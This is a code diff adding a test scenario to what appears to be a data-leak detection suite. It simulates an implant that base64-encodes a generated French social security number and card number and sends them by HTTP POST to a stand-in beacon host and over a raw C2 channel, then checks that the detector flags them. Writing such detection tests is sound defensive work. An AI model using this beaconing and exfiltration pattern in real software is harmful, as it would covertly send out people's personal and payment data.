@@ -1725,6 +1725,39 @@ def sc_smtp(ctx):
 
 
 @scenario
+def sc_c2_base64(ctx):
+    """An implant base64-encodes what it sends, without saying so: a JSON POST to /api/beacon on
+    8080 whose "blob" field is the base64 of a record holding a NIR and a card (the request cut
+    inside the base64), and a raw C2 channel on 4443 sending base64 lines (a NIR, a card); base64
+    of a longer digit run and of plain text raise nothing."""
+    import base64
+    rng, fill, host = ctx.rng, ctx.filler, "cdn-telemetry.example.net"
+    nir, card = gen_nir(rng, corsica=0), gen_card(rng)
+    record = b"host=WS-FIN-07;user=jdupont;nir=%s;pan=%s;note=%s" % (
+        nir.encode(), card.encode(), fill.text_bytes(300))
+    body = b'{"v":2,"id":"%s","blob":"%s"}' % (fill.text_bytes(8).hex().encode(),
+                                               base64.b64encode(record))
+    url = "/api/beacon"
+    req = http_req("POST", url, host, body, ctype="application/json")
+    flow = http_flow(ctx, 8080, [(req, http_resp(OK_JSON), [len(req) - len(body) // 2])])
+    fields = http_fields("POST", url, host, "application/json")
+    ctx.expect(flow, True, "fr_ssn", nir, "http", "body", http=fields)
+    ctx.expect(flow, True, "credit_card", card, "http", "body", http=fields)
+    flow = ctx.new_flow(4443)
+    nir2, card2 = gen_nir(rng, corsica=0), gen_card(rng)
+    lines = [b"hello " + base64.b64encode(b"WS-FIN-07 x64"),
+             b"data " + base64.b64encode(b"rec=1;nir=" + nir2.encode() + b";"),
+             b"data " + base64.b64encode(b"rec=2;pan=" + card2.encode()),
+             b"data " + base64.b64encode(b"rec=3;id=" + nir2.encode() + b"4242;"),
+             b"data " + base64.b64encode(fill.text_bytes(120))]
+    ctx.emit(flow.handshake(), 30)
+    ctx.emit(flow.send(b"\n".join(lines) + b"\n", True))
+    ctx.emit(flow.close())
+    ctx.expect(flow, True, "fr_ssn", nir2, "failed", "raw")
+    ctx.expect(flow, True, "credit_card", card2, "failed", "raw")
+
+
+@scenario
 def sc_http_br_req(ctx):
     """POSTs with Content-Encoding: br (RFC 7932; JSON with a NIR, ~7 KB decoded): the largest
     window (16 MiB) on 8080, and br over gzip on port 80."""
